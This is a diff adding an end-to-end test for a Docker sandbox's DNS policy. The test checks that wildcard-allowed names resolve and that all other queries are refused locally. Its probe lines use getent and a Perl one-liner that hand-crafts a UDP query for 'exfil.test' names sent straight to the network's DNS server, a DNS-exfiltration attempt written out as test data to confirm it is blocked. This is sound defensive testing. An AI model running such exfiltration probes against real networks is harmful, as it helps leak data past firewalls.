@@ -50,3 +50,34 @@ def test_forged_dns_answers_on_the_loopback_do_not_open_the_firewall(dockerenv):
     assert allowed_v4(dockerenv, name) == [dockerenv.far_ip], log
     assert "query" not in log, "the init's query reached the sandbox user's socket:\n" + log
     assert "sprayed 0 " in log, "the firewall let the sandbox user send from 127.0.0.11:53:\n" + log
+
+
+def test_the_sandbox_resolver_answers_only_allowed_names(dockerenv):
+    """On a user-defined network (Docker's embedded DNS at 127.0.0.11): a
+    name under the policy's wildcard works from an exec'd terminal on the
+    first connection; queries for other names, over UDP or TCP, to the
+    embedded DNS or straight to the network's DNS server, are answered in
+    the sandbox and never reach that server."""
+    policy = dockerenv.policy('domains: ["*.wild.test"]\nports: [80]\n', name="wild-policy.yaml")
+    name = dockerenv.start_sandbox(policy)
+    logs = dockerenv.wait_log(name, "supervising")
+    assert "sandbox ready" in logs, logs
+    for host in ("a.wild.test", "deep.x.wild.test"):
+        r = docker("exec", name, "curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "5",
+                   f"http://{host}/", check=False)
+        assert r.stdout == "200", (host, r.stdout, r.stderr)
+    r = docker("exec", name, "bash", "-c",
+               "getent hosts leak-1.exfil.test; echo rc=$?;"
+               f"perl -MIO::Socket::INET -e '"
+               "my $q = pack(\"nnnnnn\", 0x1234, 0x0100, 1, 0, 0, 0);"
+               "$q .= chr(length $_) . $_ for split /\\./, \"leak-2.exfil.test\"; $q .= pack(\"Cnn\", 0, 16, 1);"
+               f"my $s = IO::Socket::INET->new(Proto => \"udp\", PeerAddr => \"{dockerenv.dns_ip}:53\") or die;"
+               "$s->send($q); my $a; $s->recv($a, 512); printf \"rcode=%d\\n\", ord(substr($a, 3, 1)) & 15'",
+               check=False)
+    assert "rc=2" in r.stdout, r.stdout + r.stderr          # getent: not found
+    assert "rcode=3" in r.stdout, r.stdout + r.stderr       # NXDOMAIN, from the sandbox's resolver
+    dns_log = docker("logs", f"asb-e2e-dns-{dockerenv.tag}").stdout
+    assert "wild.test" in dns_log, "the allowed names were asked upstream"
+    assert "leak-" not in dns_log, dns_log
+    logs = docker("logs", name).stderr
+    assert "refused DNS query leak-1.exfil.test (A): not in the policy" in logs, logs
